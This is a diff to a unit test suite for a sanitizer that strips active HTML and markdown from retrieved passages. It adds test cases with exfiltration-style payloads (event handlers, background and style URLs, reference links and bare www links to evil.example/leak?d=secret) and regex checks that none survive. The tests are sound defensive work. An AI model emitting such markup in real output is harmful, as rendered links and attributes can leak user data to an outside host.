@@ -37,7 +37,33 @@ from tests.unit.rag.conftest import MakePassage
         ("![a\nb](https://good.example/terms)", "! [a\nb] (https://good.example/terms)"),
         ("[x]:\nhttps://good.example/terms", "[x]\nhttps://good.example/terms"),
         # What is left out joins nothing.
-        ("<im<a>g src=https://good.example/terms>", "<im g src=https://good.example/terms>"),
+        ("<im<a>g src=https://good.example/terms>", "< im g src=https://good.example/terms>"),
+        # Any attribute may load or run something.
+        ('<div style="background:url(//evil.example/?d=x)">Text</div>', "Text</div>"),
+        ("<body background=//evil.example/x>Text", "Text"),
+        ("<table\n background=//evil.example/x>Text", "Text"),
+        ("<frame src=//evil.example/x><track src=//evil.example/x>Text", "Text"),
+        ("<p onclick=x()>Text</p>", "Text</p>"),
+        ("<details open ontoggle=x()>Text", "Text"),
+        ("<p <p x=1> onclick=x()>", "< p  onclick=x()>"),
+        ("<x (https://evil.example/>) onclick=x()>", "< x  onclick=x()>"),
+        ("<p title\n\n=x>", "< p title\n\n=x>"),
+        # Bare ones are words of a document.
+        (
+            "List<String> <pod> a < b, a <b, 1<3 and <3",
+            "List<String> <pod> a < b, a < b, 1<3 and <3",
+        ),
+        # Where links of a name lead, in quotes and lists as well.
+        ("> [b]: //evil.example/x\nDone.", "Done."),
+        ("- [b]: //evil.example/x\nDone.", "Done."),
+        ("2. > [b]: //evil.example/x\nDone.", "Done."),
+        ("> " * 20 + "[b]: //evil.example/x", "> " * 20 + "[b] //evil.example/x"),
+        ("[a\nb]: //evil.example/x", "[a\nb] //evil.example/x"),
+        (r"[a\[b\]c]: //evil.example/x", r"[a\[b\]c] //evil.example/x"),
+        # What GitHub makes a link of.
+        ("See www.evil.example/leak?d=secret!", "See !"),
+        ("[x](www.evil.example/leak)", "x"),
+        ("Put www. before it.", "Put www. before it."),
         ("http<a>s://evil.example/", "http s://evil.example/"),
         ("[htt](x)ps://evil.example/", "htt ps://evil.example/"),
         ("[![a](x)](https://evil.example/)", "! [a ]"),
@@ -76,6 +102,11 @@ PARTS = (
     "data:a",
     "javascript:",
     "words",
+    "www.",
+    "=",
+    "<p ",
+    "> ",
+    "- ",
     "[x]: ",
     "![",
     "](",
@@ -101,7 +132,10 @@ def test_nothing_active_is_made_of_what_is_left(parts: list[str]) -> None:
     assert "](" not in text
     assert "![" not in text
     assert not re.search(r"</?(?:img|a)\b", text)
-    for address in re.findall(r"(?<![^\W_])https?://[^\s<>]+", text):
+    assert not re.search(r"</?[a-z](?:(?!\n\s*\n)[^>])*=(?:(?!\n\s*\n)[^>])*>", text)
+    assert not re.search(r"^[\s>-]*\[[^\]]*\]:", text, re.MULTILINE)
+    assert not re.search(r"(?<![^\W_])www\.\w", text)
+    for address in re.findall(r"(?<![^\W_])https?://[^\s<>)]+", text):
         assert "https://good.example/terms".startswith(address.rstrip(".,:!)]"))
 
 
